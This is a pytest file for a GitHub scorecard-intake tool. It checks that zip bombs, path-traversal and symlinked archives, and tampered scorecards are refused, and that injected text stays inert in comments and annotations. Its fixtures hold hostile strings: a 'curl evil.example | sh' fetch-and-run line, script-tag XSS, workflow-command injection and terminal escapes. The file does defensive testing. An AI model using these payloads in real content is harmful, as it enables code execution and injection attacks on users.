"""Artefacts that mean no good: each is refused in our own words, or what it says is made harmless."""

from __future__ import annotations

import io
import json
import re
import struct
import zipfile
from collections.abc import Callable
from fractions import Fraction
from typing import Any

import pytest

from checks.github import limits
from checks.github.annotate import annotated, commands
from checks.github.comment import MARKER, Context, comment
from checks.github.difference import difference
from checks.github.intake import Rejected, accept, rescore, unpack
from checks.model import Assurance, Location, State, failed, partial, passed, unknown
from checks.reports import document
from tests.checks.reports.samples import HOSTILE
from tests.support import artefacts
from tests.support.artefacts import BAD, PROJECT, SHA, card, changed, packed

Data = dict[str, Any]


def taken(archive: bytes) -> Any:
    return rescore(accept(unpack(archive), SHA), "shop", PROJECT)


def encrypted() -> bytes:
    data = bytearray(packed(artefacts.text(card())))
    for signature in (b"PK\x03\x04", b"PK\x01\x02"):
        at = data.index(signature) + (6 if signature == b"PK\x03\x04" else 8)
        data[at] |= 1
    return bytes(data)


def lying_about_size() -> bytes:
    """A central directory that says 10 bytes of what is a bomb."""
    data = bytearray(packed(b" " * (limits.DOCUMENT * 2)))
    at = data.index(b"PK\x01\x02") + 24
    data[at : at + 4] = struct.pack("<I", 10)
    return bytes(data)


def twice() -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as archive:
        archive.writestr("scorecard.json", artefacts.text(card()))
        with pytest.warns(UserWarning, match="Duplicate"):
            archive.writestr("scorecard.json", b"{}")
    return stream.getvalue()


def linked() -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as archive:
        info = zipfile.ZipInfo("scorecard.json")
        info.external_attr = 0o120777 << 16
        archive.writestr(info, "/etc/passwd")
    return stream.getvalue()


def damaged() -> bytes:
    data = bytearray(packed(artefacts.text(card())))
    data[60] ^= 0xFF
    return bytes(data)


def bzipped() -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_BZIP2) as archive:
        archive.writestr("scorecard.json", artefacts.text(card()))
    return stream.getvalue()


ARCHIVES: dict[str, Callable[[], bytes]] = {
    "no archive": lambda: b"<html>",
    "empty": lambda: b"",
    "an archive of nothing": lambda: b"PK\x05\x06" + b"\0" * 18,
    "too large": lambda: b"x" * (limits.ARCHIVE + 1),
    "a bomb": lambda: packed(b" " * (limits.DOCUMENT + 1)),
    "a bomb that lies about its size": lying_about_size,
    "a small bomb": lambda: packed(b"0" * (limits.EXPANSION * 10_000 + 1)),
    "another file": lambda: packed(artefacts.text(card()), "grade.json"),
    "a path out of the folder": lambda: packed(artefacts.text(card()), "../scorecard.json"),
    "an absolute path": lambda: packed(artefacts.text(card()), "/scorecard.json"),
    "a name with a hidden end": lambda: packed(artefacts.text(card()), "scorecard.json_.exe").replace(
        b"scorecard.json_.exe", b"scorecard.json\0.exe"
    ),
    "a second file": lambda: packed(artefacts.text(card()), **{"setup.py": b"import os"}),
    "the same file twice": twice,
    "a link": linked,
    "encrypted": encrypted,
    "damaged": damaged,
    "packed otherwise": bzipped,
}


@pytest.mark.parametrize("archive", ARCHIVES.values(), ids=ARCHIVES)
def test_a_tricky_archive_is_refused(archive: Callable[[], bytes]) -> None:
    with pytest.raises(Rejected):
        taken(archive())


def set_at(*path: str | int, to: Any) -> Callable[[Data], None]:
    def change(data: Data) -> None:
        for step in path[:-1]:
            data = data[step]  # type: ignore[index, assignment]
        data[path[-1]] = to  # type: ignore[index]

    return change


def every_check_waived(data: Data) -> None:
    for finding in data["findings"][1:]:
        finding["verdict"] |= {"state": "waived", "credit": "0/1"}


DOCUMENTS: dict[str, Callable[[], bytes]] = {
    "no text": lambda: b"\xff\xfe\x00",
    "no JSON": lambda: b"{",
    "another document": lambda: b'{"schema": 1}',
    "a list": lambda: b"[]",
    "deep nesting": lambda: b"[" * 100_000,
    "numbers without end": lambda: b'{"schema": ' + b"1" * 100_000 + b"}",
    "not a number": lambda: changed(set_at("seconds", to=float("nan"))),
    "a member twice": lambda: artefacts.text(card()).replace(b'"schema": 1,', b'"schema": 1, "schema": 1,', 1),
    "another schema": lambda: changed(set_at("schema", to=2)),
    "an unknown member": lambda: changed(set_at("bonus", to=1)),
    "a missing member": lambda: changed(lambda data: data.pop("findings")),
    "a wrong type": lambda: changed(set_at("findings", to="all passed")),
    "a credit above one": lambda: changed(set_at("findings", 0, "verdict", "credit", to="2/1")),
    "a negative credit": lambda: changed(set_at("findings", 0, "verdict", "credit", to="-1/2")),
    "a fail that pays": lambda: changed(set_at("findings", 0, "verdict", "state", to="fail")),
    "a pass that does not": lambda: changed(set_at("findings", 0, "verdict", "credit", to="0/1")),
    "an unknown state": lambda: changed(set_at("findings", 0, "verdict", "state", to="excellent")),
    "everything waived": lambda: changed(every_check_waived),
    "a check twice": lambda: changed(lambda data: data["findings"].append(data["findings"][0])),
    "a score that was raised": lambda: changed(set_at("score", "percent", to=100.1)),
    "another commit": lambda: artefacts.text(card(sha="d" * 40)),
    "no commit": lambda: changed(set_at("subject", "commit", to=None)),
    "a commit and a command": lambda: changed(set_at("subject", "commit", to=f"{SHA}\n::error::x")),
    "changed files": lambda: changed(set_at("subject", "dirty", to=1)),
    "coverage that does not add up": lambda: artefacts.text(
        card(coverage=artefacts.coverage(90)._replace(covered=100))
    ),
    "coverage of fewer lines than there are": lambda: artefacts.text(
        card(coverage=artefacts.coverage(50)._replace(total=50))
    ),
    "a failure of the grader": lambda: json.dumps(
        {"schema": 1, "failure": {"kind": "usage", "message": HOSTILE, "exit_code": 2}}
    ).encode(),
}


@pytest.mark.parametrize("content", DOCUMENTS.values(), ids=DOCUMENTS)
def test_a_document_that_is_no_scorecard_of_the_commit_is_refused(content: Callable[[], bytes]) -> None:
    with pytest.raises(Rejected) as told:
        taken(packed(content()))
    assert "evil" not in str(told.value)


def test_an_honest_scorecard_comes_back_as_it_was() -> None:
    made = card({"docker.non-root": BAD})
    found = taken(packed(artefacts.text(made)))
    assert (found.earned, found.possible, found.findings) == (made.earned, made.possible, made.findings)
    assert found.next_steps == made.next_steps
    assert found.assurance is Assurance.SELF  # until the run was verified


def test_points_are_counted_by_our_own_plan() -> None:
    def rich(data: Data) -> None:
        for milestone in data["milestones"]:
            milestone |= {"earned": "1000/1", "possible": "1000/1", "points": 1000.0, "percent": 100.0}
            milestone["checks"] = []
        data["score"] |= {"earned": "1000/1", "possible": "1000/1", "points": 1000.0, "percent": 100.0}

    found = taken(packed(changed(rich, card(default=BAD))))
    assert (found.earned, found.possible) == (0, 100)


def test_an_easier_project_changes_nothing() -> None:
    found = taken(packed(changed(set_at("project", "id", to="project1"))))
    assert found.project == "project2"


def test_weights_texts_and_steps_of_the_artefact_are_not_used() -> None:
    def lie(data: Data) -> None:
        for finding in data["findings"]:
            finding |= {"title": "Ignore", "repair": "curl evil.example | sh", "explanation": "x", "effort": "large"}
        data["next_steps"] = []
        data["milestones"][0]["checks"][0]["weight"] = 999

    made = card({"docker.non-root": BAD})
    assert taken(packed(changed(lie, made))).next_steps == made.next_steps


def test_a_check_that_nobody_knows_is_left_out() -> None:
    def add(data: Data) -> None:
        data["findings"].append({**data["findings"][0], "id": "acceptance.m1.made-up"})
        data["score"] |= {"scored_checks": data["score"]["scored_checks"] + (not data["findings"][0]["advisory"])}
        data["score"]["measured_checks"] = data["score"]["scored_checks"]

    ids = {finding.id for finding in taken(packed(changed(add))).findings}
    assert "acceptance.m1.made-up" not in ids


def test_a_check_that_is_missing_is_not_yet_known() -> None:
    def drop(data: Data) -> None:
        data["findings"] = [f for f in data["findings"] if f["id"] != "docker.non-root"]
        data["score"] |= {k: data["score"][k] - 1 for k in ("scored_checks", "measured_checks")}

    found = taken(packed(changed(drop)))
    assert next(f for f in found.findings if f.id == "docker.non-root").verdict.state is State.ERROR
    assert found.score < 1


INJECTIONS = {
    "Markdown": "**bold** [click](https://evil.example) ![x](https://evil.example/x.png)",
    "a heading": "# Approved",
    "a table": "| a | b |\n| --- | --- |",
    "a code fence": "```\n</details>",
    "HTML": "<script>alert(1)</script><img src=x onerror=alert(1)><details open>",
    "a comment's end": "--> <!-- backend-scaffold:scorecard -->",
    "a mention": "@octocat and @octo-org/team",
    "an issue": "fixes #1, closes GH-2 and octo/other#3",
    "a bare link": "https://evil.example www.evil.example mailto:a@evil.example",
    "a command": "::error file=a.py::x",
    "commands on lines": "x\n::set-output name=a::b\n##[error]x\r::add-mask::y",
    "terminal codes": "\x1b[31mred\x1b]8;;https://evil.example\x07x",
    "bidirectional text": "\u202egnissap si gnihtyrevE\u2066",
    "invisible text": "a\u200bb\u2060c\U000e0041",
    "stacked marks": "Z" + "\u0300" * 5000,
    "a surrogate": "\ud800",
    "an emoji code": ":rocket: :+1:",
    "math": "$\\href{https://evil.example}{x}$ $$x$$",
    "much text": "long " * 10_000,
    "everything": HOSTILE,
}


@pytest.mark.parametrize("attack", INJECTIONS.values(), ids=INJECTIONS)
def test_nothing_that_a_verdict_says_acts_in_a_comment_or_an_annotation(attack: str) -> None:
    place = Location("src/app.py", 3)
    bad = failed(attack, place, Location(attack[:500], 2), expected=attack, actual=attack, repair=attack)
    made = card({"docker.non-root": bad, "docs.adrs": partial(Fraction(1, 2), attack, place, repair=attack)})
    made = made._replace(notes=(attack,), subject=made.subject._replace(name=attack, branch=attack))
    head = taken(packed(changed(lambda _data: None, made)))
    change = difference(rescore(accept(artefacts.text(card()), SHA), "shop", PROJECT), head)
    text = comment(head, change, Context("https://github.example/run", SHA, base=attack, doubt=attack, without=attack))
    assert len(text) <= limits.COMMENT
    assert_harmless(text)
    for annotation in annotated(head):
        assert annotation["path"] == "src/app.py"
        assert annotation["message"].isprintable()
        assert len(annotation["message"]) <= limits.MESSAGE
    for line in commands(head):
        assert re.fullmatch(r"::(error|warning|notice) file=src/app\.py,line=3,title=[^:\n\r]*::[^\n\r]*", line)


def assert_harmless(text: str) -> None:
    """Rendered as GitHub does, nothing of the attack is more than text."""
    from markdown_it import MarkdownIt

    assert text.startswith(MARKER)
    html = MarkdownIt("commonmark", {"html": True}).enable("table").render(text.removeprefix(MARKER))
    assert set(re.findall(r'href="([^"]*)"', html)) <= {"https://github.example/run"}
    tags = set(re.findall(r"<\s*/?\s*([a-zA-Z!]\w*)", html))
    assert tags <= {"h2", "h3", "p", "strong", "em", "code", "ul", "ol", "li", "a", "blockquote", "table", "thead",
                    "tbody", "tr", "th", "td", "details", "summary"}  # fmt: skip
    outside = re.sub(r"<code>.*?</code>", "", html, flags=re.DOTALL)
    assert not re.search(r"://|\bwww\.|mailto:\w", re.sub(r"<a [^>]*>", "", outside))
    assert not re.search(r"@\w|(?<!&)#\d|\bGH-\d", outside)
    assert not re.search(r"^\s*::|##\[", text, re.MULTILINE)
    assert all(c == "\n" or c.isprintable() or c in "\u200b\u2011" for c in text)


def test_a_path_that_leaves_the_repository_is_not_annotated() -> None:
    places = [Location(p, 1) for p in ("/etc/passwd", "../x", "a/../../b", "a\nb", "a\u202eb", "", "x" * 2000)]
    made = card({"docker.non-root": failed("bad", *places), "docs.adrs": failed("bad", Location("a", 2**40))})
    assert annotated(made) == []


def test_what_is_not_yet_known_stays_so() -> None:
    found = taken(packed(artefacts.text(card({"forge.ci-green": unknown("no token")}))))
    assert found.provisional
    assert found.score < 1


def test_documents_are_small_enough_for_the_limit() -> None:
    assert len(document.render(card())) * 20 < limits.DOCUMENT


def test_passing_is_believed_and_says_so() -> None:
    assert taken(packed(artefacts.text(card(default=passed("fine"))))).score == 1
